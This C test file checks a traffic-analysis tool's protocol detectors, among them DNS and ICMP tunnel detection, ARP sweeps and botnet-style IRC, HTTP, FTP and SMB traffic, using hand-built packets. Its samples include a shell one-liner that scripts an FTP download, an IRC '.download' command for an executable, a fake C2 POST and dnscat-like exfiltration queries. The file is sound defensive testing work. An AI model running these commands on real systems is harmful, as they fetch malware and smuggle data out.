/*
 * test_report.c - the report's protocol detectors (analysis/proto_*.c) on
 * hand-built payloads, well-formed, truncated and malformed (ICMP tunnels
 * against ordinary pings, data in DNS names, the ARP sweep table), and the
 * range labels of geo.c.  Every payload is a heap copy of exactly its
 * length so ASan catches any overread.
 */
#include <stdlib.h>
#include <string.h>

#include "analysis/report-int.h"
#include "harness.h"

extern const struct rp_proto proto_icmp, proto_dns, proto_ntp, proto_overnet, proto_kad, proto_btdht,
	proto_gnutella, proto_tls, proto_http, proto_smtp, proto_irc, proto_ftp, proto_smb, proto_shell;

static struct rp_col *col;

static struct rp_flow flow(uint8_t proto, uint16_t sport, uint16_t dport)
{
	return (struct rp_flow){ .proto = proto, .sport = sport, .dport = dport, .h = { 1, 2 } };
}

/* Runs detector d on a heap copy of n bytes of p in direction dir. */
static bool feed(const struct rp_proto *d, struct rp_flow *f, const void *p, size_t n, int dir)
{
	uint8_t *b = malloc(n ? n : 1);
	memcpy(b, p, n);
	/* the flow's address stands for its record index: stable while the test runs */
	struct rp_seg s = { .p = b, .n = n, .wire = n, .dir = dir, .idx = (uint32_t)((uintptr_t)f >> 4) };
	bool ok = d->inspect(col, f, &s);
	if (ok && !f->app)
		f->app = d->app;
	free(b);
	return ok;
}

static const char *ev(unsigned cat)
{
	static char buf[256];
	rp_ev_join(col, 1, cat, 1, buf, sizeof buf);
	return buf;
}

static void test_dns(void)
{
	TEST("dns");
	static const uint8_t q[] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
		3, 'w', 'w', 'w', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1 };
	struct rp_flow f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, q, sizeof q, 0));
	CHECK_EQ_U(f.count, 1);
	CHECK_STR(ev(EV_DNS_QNAME), "www.example.com");
	/* the answer: name by pointer to offset 12, A 1.2.3.4 */
	uint8_t r[sizeof q + 16];
	memcpy(r, q, sizeof q);
	r[2] = 0x81, r[3] = 0x80, r[7] = 1;
	static const uint8_t an[] = { 0xC0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 1, 2, 3, 4 };
	memcpy(r + sizeof q, an, sizeof an);
	f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, r, sizeof r, 1));
	CHECK(f.facts & RPF_DNS_ANSWER);
	uint8_t a[16] = { 1, 2, 3, 4 };
	CHECK_STR(rp_pdns_name(col, 4, a), "www.example.com");
	/* truncated: every prefix of the query either parses or is refused, never overreads */
	for (size_t n = 0; n < sizeof q; n++) {
		f = flow(17, 1100, 53);
		CHECK(!feed(&proto_dns, &f, q, n, 0));
	}
	/* malformed: a pointer to itself, a 64-byte label, no question, another port */
	uint8_t loop[] = { 0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xC0, 12, 0, 1, 0, 1 };
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, loop, sizeof loop, 0));
	uint8_t big[12 + 1 + 64 + 5] = { 0, 1, 1, 0, 0, 1 };
	big[12] = 64;
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, big, sizeof big, 0));
	uint8_t noq[sizeof q];
	memcpy(noq, q, sizeof q);
	noq[5] = 0;
	f = flow(17, 1100, 53);
	CHECK(!feed(&proto_dns, &f, noq, sizeof noq, 0));
	f = flow(17, 1100, 54);
	CHECK(!feed(&proto_dns, &f, q, sizeof q, 0));
	/* tunnel: a 50-character label */
	uint8_t t[12 + 1 + 50 + 6 + 4 + 4] = { 0, 1, 1, 0, 0, 1 };
	size_t o = 12;
	t[o++] = 50;
	memset(t + o, 'a', 50);
	o += 50;
	memcpy(t + o, "\004pira\002te\0\0\x0a\0\x01", 12);
	f = flow(17, 1100, 53);
	CHECK(feed(&proto_dns, &f, t, sizeof t, 0));
	CHECK(f.facts & RPF_DNS_TUNNEL);
	CHECK_STR(ev(EV_DNS_DOMAIN), "pira.te");
}

/* A 20-byte IPv4 header (checksum computed) for len bytes in all, src -> dst, protocol proto. */
static size_t ipv4_hdr(uint8_t *b, unsigned len, const uint8_t src[4], const uint8_t dst[4], uint8_t proto)
{
	memset(b, 0, 20);
	b[0] = 0x45;
	b[2] = (uint8_t)(len >> 8), b[3] = (uint8_t)len;
	b[6] = 0x40, b[8] = 64, b[9] = proto;
	memcpy(b + 12, src, 4);
	memcpy(b + 16, dst, 4);
	uint32_t sum = 0;
	for (int i = 0; i < 20; i += 2)
		sum += (uint32_t)b[i] << 8 | b[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	sum = ~sum & 0xffff;
	b[10] = (uint8_t)(sum >> 8), b[11] = (uint8_t)sum;
	return 20;
}

static void test_icmp_tunnel(void)
{
	TEST("icmp tunnel");
	static const uint8_t in_s[4] = { 10, 95, 1, 1 }, in_d[4] = { 10, 95, 1, 2 };
	/* an echo request whose data is an IPv4 packet: inner ICMP echo with a pattern */
	uint8_t p[84];
	ipv4_hdr(p, sizeof p, in_s, in_d, 1);
	for (size_t i = 20; i < sizeof p; i++)
		p[i] = (uint8_t)i;
	struct rp_flow f = flow(1, 8, 0);
	CHECK(feed(&proto_icmp, &f, p, sizeof p, 0));
	CHECK_EQ_U(f.count, 1);
	CHECK_EQ_U(f.count2, 1);
	CHECK(f.facts2 & RPF2_ICMP_TUNNEL);
	CHECK(f.facts2 & RPF2_ICMP_TUNNEL_ORIG);
	CHECK(!(f.facts2 & RPF2_ICMP_TUNNEL_RESP));
	CHECK_STR(ev(EV_TUNNEL_INNER), "10.95.1.1 -> 10.95.1.2");
	/* the reply direction: the responder's packets */
	CHECK(feed(&proto_icmp, &f, p, sizeof p, 1));
	CHECK(f.facts2 & RPF2_ICMP_TUNNEL_RESP);
	CHECK_EQ_U(f.count, 2);
	/* followed by padding: still an inner packet */
	uint8_t pad[sizeof p + 8];
	memcpy(pad, p, sizeof p);
	memset(pad + sizeof p, 0, 8);
	f = flow(1, 8, 0);
	CHECK(feed(&proto_icmp, &f, pad, sizeof pad, 0));
	/* a wrong header checksum, a total length past the data, IHL < 5: not a packet */
	uint8_t bad[sizeof p];
	memcpy(bad, p, sizeof p);
	bad[11] ^= 1;
	f = flow(1, 8, 0);
	CHECK(!feed(&proto_icmp, &f, bad, sizeof bad, 0));
	CHECK_EQ_U(f.count, 0);
	CHECK_EQ_U(f.count2, 1);
	CHECK(!(f.facts2 & RPF2_ICMP_TUNNEL));
	f = flow(1, 8, 0);
	CHECK(!feed(&proto_icmp, &f, p, sizeof p - 1, 0));
	memcpy(bad, p, sizeof p);
	bad[0] = 0x44;
	f = flow(1, 8, 0);
	CHECK(!feed(&proto_icmp, &f, bad, sizeof bad, 0));
	/* ordinary pings: Linux/BSD (timeval + 0x10, 0x11, ...), one whose timestamp opens with 0x45, Windows */
	uint8_t lin[56];
	static const uint8_t tv[8] = { 0x2d, 0x6e, 0x13, 0x51, 0x2d, 0x49, 0x06, 0x00 };
	memcpy(lin, tv, 8);
	for (size_t i = 8; i < sizeof lin; i++)
		lin[i] = (uint8_t)(i + 8);
	f = flow(1, 8, 0);
	CHECK(!feed(&proto_icmp, &f, lin, sizeof lin, 0));
	lin[0] = 0x45;
	CHECK(!feed(&proto_icmp, &f, lin, sizeof lin, 0));
	const char *win = "abcdefghijklmnopqrstuvwabcdefghi";
	CHECK(!feed(&proto_icmp, &f, win, strlen(win), 0));
	f = flow(58, 128, 129);
	CHECK(!feed(&proto_icmp, &f, win, strlen(win), 0));
	CHECK_EQ_U(f.count, 0);
	/* ICMPv6 echo: identifier and sequence number, then an IPv6 packet (UDP, 8 bytes) */
	uint8_t v6[4 + 40 + 8] = { 0, 1, 0, 1, 0x60 };
	v6[4 + 5] = 8, v6[4 + 6] = 17, v6[4 + 7] = 64;
	v6[4 + 8] = 0xfd, v6[4 + 23] = 1, v6[4 + 24] = 0xfd, v6[4 + 39] = 2;
	f = flow(58, 128, 129);
	CHECK(feed(&proto_icmp, &f, v6, sizeof v6, 0));
	CHECK(f.facts2 & RPF2_ICMP_TUNNEL);
	v6[4 + 5] = 9;  /* payload length one past the data */
	f = flow(58, 128, 129);
	CHECK(!feed(&proto_icmp, &f, v6, sizeof v6, 0));
	/* not echo: a destination unreachable quotes an IP header, and is no tunnel */
	f = flow(1, 3, 3);
	CHECK(!feed(&proto_icmp, &f, p, sizeof p, 0));
	f = flow(17, 8, 0);
	CHECK(!feed(&proto_icmp, &f, p, sizeof p, 0));
	/* every prefix: refused or parsed, never an overread */
	for (size_t n = 0; n < 40; n++) {
		f = flow(1, 8, 0);
		feed(&proto_icmp, &f, p, n, 0);
		f = flow(58, 128, 129);
		feed(&proto_icmp, &f, v6, n, 0);
	}
}

/* A DNS query for name (dotted) of type qtype into b; returns its length. */
static size_t dns_query(uint8_t *b, const char *name, unsigned qtype)
{
	static const uint8_t hdr[12] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
	memcpy(b, hdr, 12);
	size_t o = 12;
	for (const char *p = name; *p;) {
		const char *dot = strchr(p, '.');
		size_t n = dot ? (size_t)(dot - p) : strlen(p);
		b[o++] = (uint8_t)n;
		memcpy(b + o, p, n);
		o += n;
		p += n + (dot != NULL);
	}
	b[o++] = 0;
	b[o++] = (uint8_t)(qtype >> 8), b[o++] = (uint8_t)qtype;
	b[o++] = 0, b[o++] = 1;
	return o;
}

static const struct rp_dns_peer *dns_peer(uint32_t client, uint32_t server)
{
	for (size_t i = 0; i < col->ndns; i++)
		if (col->dns[i].client == client && col->dns[i].server == server)
			return &col->dns[i];
	return NULL;
}

static void test_dns_data(void)
{
	TEST("dns data");
	uint8_t b[300];
	/* a hash-sized hex label under a domain (telemetry, reputation lookups): no data */
	struct rp_flow f = { .proto = 17, .sport = 1100, .dport = 53, .h = { 5, 6 } };
	size_t n = dns_query(b, "4e963dfa7cb178ea5aad7c2ac284d065.clo.footprintdns.com", 1);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK(!(f.facts & RPF_DNS_TUNNEL));
	n = dns_query(b, "www.example.com", 1);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	/* data where the domain should be, and long hex labels: data */
	f = (struct rp_flow){ .proto = 17, .sport = 1101, .dport = 53, .h = { 5, 7 } };
	n = dns_query(b, "dnscat.f66701f500fcde3c122c8f00082fd11527", 16);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK(f.facts & RPF_DNS_TUNNEL);
	n = dns_query(b, "a35c00f5005703c8b1b8cd000118b52347aeb1d73340c97cca43c34b27cf.edf0dbda.t.example.org", 15);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK_EQ_U(f.count2, 2);
	/* one label, letters and digits, TXT, to a server the host asks nothing else: no domain */
	f = (struct rp_flow){ .proto = 17, .sport = 1102, .dport = 53, .h = { 5, 8 } };
	n = dns_query(b, "1qaz2wsx", 16);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK(f.facts2 & RPF2_DNS_BADNAME);
	CHECK(!(f.facts & RPF_DNS_TUNNEL));
	/* names hosts ask by themselves, and short host names asked for A, are one label but no data */
	n = dns_query(b, "wpad", 16);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	n = dns_query(b, "printer1", 1);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	/* multicast DNS: LAN chatter, whatever its names look like */
	f = (struct rp_flow){ .proto = 17, .sport = 5353, .dport = 5353, .h = { 5, 9 } };
	n = dns_query(b, "Google-Home-Mini-2c3b8e1f7a6d9e0b4c5a2c3b8e1f7a6d9e0b4c5a.local", 16);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	n = dns_query(b, "DESKTOP1X", 255);
	CHECK(feed(&proto_dns, &f, b, n, 0));
	CHECK(!(f.facts & RPF_DNS_TUNNEL));
	CHECK(!(f.facts2 & RPF2_DNS_BADNAME));
	CHECK(dns_peer(5, 9) == NULL);
	const struct rp_dns_peer *e = dns_peer(5, 8);
	CHECK(e && e->queries == 3 && e->badname == 3 && e->baddata == 1);
	CHECK_STR(e ? e->sample : NULL, "1qaz2wsx");
	e = dns_peer(5, 7);
	CHECK(e && e->data == 2 && e->data_bytes > 100);
	/* the resolver is the server of most queries for domain names */
	rp_dns_finish(col);
	CHECK(dns_peer(5, 6) && dns_peer(5, 6)->resolver);   /* 2 domain-name queries, seen first */
	CHECK(dns_peer(5, 7) && !dns_peer(5, 7)->resolver);  /* 2 too: a tie goes to the first seen */
	CHECK(dns_peer(5, 8) && !dns_peer(5, 8)->resolver);  /* only one-label names: never a resolver */
}

static void arp_req(uint32_t s, uint32_t t, float now)
{
	struct pkt p = { .ethertype = 0x0806 };
	p.arp.op = ARP_REQUEST;
	for (int i = 0; i < 4; i++) {
		p.arp.spa[i] = (uint8_t)(s >> (24 - 8 * i));
		p.arp.tpa[i] = (uint8_t)(t >> (24 - 8 * i));
	}
	rp_arp_packet(col, &p, now);
}

static void test_arp_sweep(void)
{
	TEST("arp sweep");
	uint32_t me = 0x0a000001, other = 0x0a000002;   /* 10.0.0.1, 10.0.0.2 */
	for (unsigned i = 2; i < 42; i++)   /* 40 addresses in 4 s, each asked twice */
		for (int k = 0; k < 2; k++)
			arp_req(me, 0x0a000000 | i, (float)i * 0.1f);
	for (unsigned i = 0; i < 30; i++)   /* a busy host: 30 peers over 30 minutes, gratuitous ARP, probes */
		arp_req(other, 0x0a000000 | (100 + i), (float)i * 60);
	arp_req(other, other, 5);
	arp_req(0, 0x0a000063, 5);
	uint8_t sw[4][4];
	CHECK_EQ_U(rp_arp_sweepers(col, sw, 4), 1);
	CHECK(sw[0][0] == 10 && sw[0][3] == 1);
	const struct rp_arp *e = NULL;
	for (size_t i = 0; i < col->narp; i++)
		if (col->arp[i].sender == me)
			e = &col->arp[i];
	CHECK(e && e->distinct == 40 && e->best == 40 && e->requests == 80 && e->net == 0x0a000000);
	/* 32 within a minute, but not 40 over an hour */
	for (size_t i = 0; i < col->narp; i++)
		if (col->arp[i].sender == other)
			CHECK(!rp_arp_sweep(&col->arp[i]));
}

static void test_ntp(void)
{
	TEST("ntp");
	uint8_t p[48] = { 0x23 };   /* v4, mode 3 (client) */
	struct rp_flow f = flow(17, 123, 123);
	CHECK(feed(&proto_ntp, &f, p, sizeof p, 0));
	CHECK(f.facts & RPF_NTP_CLIENT);
	f = flow(17, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, 47, 0));
	p[0] = 0x20;   /* mode 0 */
	f = flow(17, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, sizeof p, 0));
	p[0] = 0x23;
	f = flow(6, 123, 123);
	CHECK(!feed(&proto_ntp, &f, p, sizeof p, 0));
}

static void test_smtp(void)
{
	TEST("smtp");
	const char *c = "EHLO bot.example\r\nMAIL FROM:<a@b.c>\r\nRCPT TO:<x@y.z>\r\nRCPT TO:<w@y.z>\r\nDATA\r\n";
	struct rp_flow f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, c, strlen(c), 0));
	CHECK_STR(ev(EV_SMTP_HELO), "bot.example");
	CHECK_EQ_U(f.count, 2);
	CHECK((f.facts & (RPF_SMTP_MAIL | RPF_SMTP_DATA)) == (RPF_SMTP_MAIL | RPF_SMTP_DATA));
	f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, "220 mx ESMTP\r\n", 14, 1));
	f = flow(6, 1200, 25);
	CHECK(feed(&proto_smtp, &f, "554 go away\r\n", 13, 1));
	f = flow(6, 1200, 80);
	CHECK(!feed(&proto_smtp, &f, "220 mx ESMTP\r\n", 14, 1));
	f = flow(6, 1200, 25);
	CHECK(!feed(&proto_smtp, &f, "22", 2, 1));
	f = flow(6, 1200, 25);
	CHECK(!feed(&proto_smtp, &f, "EHL", 3, 0));
}

static void test_http(void)
{
	TEST("http");
	const char *p = "POST /gate HTTP/1.1\r\nHost: cc.example\r\nUser-Agent: Bot/1\r\n"
			"Content-Type: application/octet-stream\r\nContent-Length: 3\r\n\r\nabc";
	struct rp_flow f = flow(6, 1300, 80);
	CHECK(feed(&proto_http, &f, p, strlen(p), 0));
	CHECK((f.facts & (RPF_HTTP_POST | RPF_HTTP_BINARY)) == (RPF_HTTP_POST | RPF_HTTP_BINARY));
	CHECK_STR(ev(EV_HTTP_HOST), "cc.example");
	CHECK_STR(ev(EV_HTTP_UA), "Bot/1");
	const char *g = "GET /dl/ecard.exe?x=1 HTTP/1.0\r\n\r\n";
	f = flow(6, 1301, 80);
	CHECK(feed(&proto_http, &f, g, strlen(g), 0));
	CHECK(f.facts & RPF_EXE);
	const char *r = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nMZ\x90";
	f = flow(6, 1302, 80);
	CHECK(feed(&proto_http, &f, r, strlen(r), 1));
	CHECK(f.facts & RPF_EXE);
	f = flow(6, 1303, 80);
	CHECK(!feed(&proto_http, &f, "GET /", 5, 0));
	f = flow(6, 1304, 80);
	CHECK(!feed(&proto_http, &f, "\x16\x03\x01", 3, 0));
	/* every truncation of the request: no overread, headers only as far as present */
	for (size_t n = 0; n < strlen(p); n++) {
		f = flow(6, 1305, 80);
		feed(&proto_http, &f, p, n, 0);
	}
}

static size_t tls_hello(uint8_t *b, const char *sni)
{
	size_t nl = strlen(sni), o = 0;
	size_t ext = 9 + nl, hs = 2 + 32 + 1 + 2 + 2 + 1 + 1 + 2 + ext;
	b[o++] = 22, b[o++] = 3, b[o++] = 1, b[o++] = (uint8_t)((hs + 4) >> 8), b[o++] = (uint8_t)(hs + 4);
	b[o++] = 1, b[o++] = 0, b[o++] = (uint8_t)(hs >> 8), b[o++] = (uint8_t)hs;
	b[o++] = 3, b[o++] = 3;
	memset(b + o, 7, 32), o += 32;
	b[o++] = 0;                                  /* session id */
	b[o++] = 0, b[o++] = 2, b[o++] = 0x13, b[o++] = 1;   /* one suite */
	b[o++] = 1, b[o++] = 0;                      /* compression */
	b[o++] = (uint8_t)(ext >> 8), b[o++] = (uint8_t)ext;
	b[o++] = 0, b[o++] = 0, b[o++] = (uint8_t)((nl + 5) >> 8), b[o++] = (uint8_t)(nl + 5);
	b[o++] = (uint8_t)((nl + 3) >> 8), b[o++] = (uint8_t)(nl + 3), b[o++] = 0;
	b[o++] = (uint8_t)(nl >> 8), b[o++] = (uint8_t)nl;
	memcpy(b + o, sni, nl);
	return o + nl;
}

static void test_tls(void)
{
	TEST("tls");
	uint8_t b[256];
	size_t n = tls_hello(b, "c2.example.org");
	struct rp_flow f = flow(6, 1400, 443);
	CHECK(feed(&proto_tls, &f, b, n, 0));
	CHECK_STR(ev(EV_TLS_SNI), "c2.example.org");
	for (size_t k = 0; k < n; k++) {   /* truncated anywhere: never an overread */
		f = flow(6, 1400, 443);
		feed(&proto_tls, &f, b, k, 0);
	}
	b[1] = 2;   /* not TLS 1.x */
	f = flow(6, 1400, 443);
	CHECK(!feed(&proto_tls, &f, b, n, 0));
}

static void test_irc(void)
{
	TEST("irc");
	const char *c = "NICK bot123\r\nUSER bot 0 * :bot\r\nJOIN :#dark\r\n";
	struct rp_flow f = flow(6, 1500, 6667);
	CHECK(feed(&proto_irc, &f, c, strlen(c), 0));
	CHECK((f.facts & (RPF_IRC_REG | RPF_IRC_JOIN)) == (RPF_IRC_REG | RPF_IRC_JOIN));
	CHECK_STR(ev(EV_IRC_NICK), "bot123");
	CHECK_STR(ev(EV_IRC_CHAN), "#dark");
	const char *s = ":boss!x@y PRIVMSG #dark :.download http://x/y.exe\r\n";
	CHECK(feed(&proto_irc, &f, s, strlen(s), 1));
	CHECK(f.facts & RPF_IRC_CMD);
	CHECK_STR(ev(EV_IRC_CMD), ".download http://x/y.exe");
	/* joined before the capture started: the nick comes from the JOIN echo's prefix */
	f = flow(6, 1504, 1106);
	const char *j = ":fhhhs!fhhhs@20.20.20.2 JOIN :#dark-chan\r\n";
	CHECK(feed(&proto_irc, &f, j, strlen(j), 1));
	char nicks[256];
	rp_ev_join(col, 1, EV_IRC_NICK, 4, nicks, sizeof nicks);  /* bot123 from above, then this */
	CHECK(strstr(nicks, "fhhhs") != NULL);
	CHECK(strstr(nicks, "20.20.20.2") == NULL);
	f = flow(6, 1501, 6667);
	CHECK(!feed(&proto_irc, &f, "hello world\r\n", 13, 0));
	f = flow(6, 1502, 6667);
	CHECK(!feed(&proto_irc, &f, ":", 1, 1));
	f = flow(6, 1503, 6667);
	CHECK(!feed(&proto_irc, &f, "USER anonymous\r\n", 16, 0));   /* FTP's, not IRC's */
}

static void test_ftp_smb_shell(void)
{
	TEST("ftp");
	struct rp_flow f = flow(6, 1600, 8884);
	CHECK(feed(&proto_ftp, &f, "USER 1\r\n", 8, 0));
	CHECK(feed(&proto_ftp, &f, "RETR ssms.exe\r\n", 15, 0));
	CHECK(f.facts & RPF_EXE);
	CHECK(f.facts & RPF_FTP_LOGIN);
	f = flow(6, 1601, 8884);
	CHECK(!feed(&proto_ftp, &f, "QUIT\r\n", 6, 0));
	TEST("smb");
	uint8_t smb[4 + 32 + 8] = { 0, 0, 0, 40, 0xFF, 'S', 'M', 'B', 0x32 };
	f = flow(6, 1700, 445);
	CHECK(feed(&proto_smb, &f, smb, sizeof smb, 0));
	CHECK(f.facts & RPF_SMB_TRANS2);
	uint8_t nt[4 + 32 + 12] = { 0, 0, 0, 44, 0xFF, 'S', 'M', 'B', 0xA0 };
	nt[4 + 32] = 19;                      /* word count */
	nt[4 + 32 + 4 + 2] = 0x01;            /* total parameter count 0x10000 */
	f = flow(6, 1701, 445);
	CHECK(feed(&proto_smb, &f, nt, sizeof nt, 0));
	CHECK(f.facts & RPF_SMB_NTTRANS);
	f = flow(6, 1702, 445);
	CHECK(!feed(&proto_smb, &f, smb, 6, 0));
	f = flow(6, 1703, 80);
	CHECK(!feed(&proto_smb, &f, smb, sizeof smb, 0));
	TEST("shell");
	const char *sh = "echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &ftp -n -s:o\r\n";
	f = flow(6, 1800, 1957);
	CHECK(feed(&proto_shell, &f, sh, strlen(sh), 0));
	CHECK(f.facts & RPF_SHELL);
	f = flow(6, 1800, 80);
	CHECK(!feed(&proto_shell, &f, sh, strlen(sh), 0));
}

static void test_p2p(void)
{
	TEST("overnet");
	static const uint8_t ack[] = { 0xE3, 0x0D };   /* PublicizeAck: empty */
	struct rp_flow f = flow(17, 20000, 30000);
	CHECK(feed(&proto_overnet, &f, ack, sizeof ack, 0));
	static const uint8_t bad[] = { 0xE3, 0xFF };
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, bad, sizeof bad, 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, ack, 1, 0));
	static const uint8_t conn[] = { 0xE3, 0x0A, 1, 2 };   /* Connect cut short */
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_overnet, &f, conn, sizeof conn, 0));
	TEST("kad");
	static const uint8_t kad[] = { 0xE4, 0x21, 0, 0 };
	f = flow(17, 20000, 30000);
	CHECK(feed(&proto_kad, &f, kad, sizeof kad, 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_kad, &f, kad, 1, 0));
	TEST("bittorrent_dht");
	const char *d = "d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe";
	f = flow(17, 20000, 30000);
	CHECK(feed(&proto_btdht, &f, d, strlen(d), 0));
	f = flow(17, 20000, 30000);
	CHECK(!feed(&proto_btdht, &f, d, 11, 0));
	TEST("gnutella");
	f = flow(6, 20000, 6346);
	CHECK(feed(&proto_gnutella, &f, "GNUTELLA CONNECT/0.6\r\n", 22, 0));
	f = flow(6, 20000, 6346);
	CHECK(!feed(&proto_gnutella, &f, "GNUT", 4, 0));
}

static void test_ranges(void)
{
	TEST("geo ranges");
	uint8_t a[16] = { 192, 168, 1, 1 };
	CHECK_STR(geo_range(4, a), "private (RFC 1918)");
	uint8_t b[16] = { 172, 31, 255, 1 };
	CHECK_STR(geo_range(4, b), "private (RFC 1918)");
	uint8_t c[16] = { 172, 32, 0, 1 };
	CHECK(geo_range(4, c) == NULL);
	uint8_t d[16] = { 0xfd, 0 };
	CHECK_STR(geo_range(6, d), "unique local (RFC 4193)");
	CHECK(rp_kind_malicious("spam"));
	CHECK(!rp_kind_malicious("dns"));
}

static void test_evidence_bound(void)
{
	TEST("evidence bound");
	char s[32];
	for (unsigned i = 0; i < RP_EV_MAX + 100; i++) {
		int n = snprintf(s, sizeof s, "name%u", i);
		rp_ev_add(col, 9, EV_DNS_QNAME, (const uint8_t *)s, (size_t)n);
	}
	CHECK(rp_ev_total(col, 9, EV_DNS_QNAME) <= RP_EV_MAX);
	CHECK(!rp_col_oom(col));
}

int main(void)
{
	col = rp_col_new();
	test_dns();
	test_icmp_tunnel();
	test_dns_data();
	test_arp_sweep();
	test_ntp();
	test_smtp();
	test_http();
	test_tls();
	test_irc();
	test_ftp_smb_shell();
	test_p2p();
	test_ranges();
	test_evidence_bound();
	rp_col_free(col);
	return harness_report("report");
}
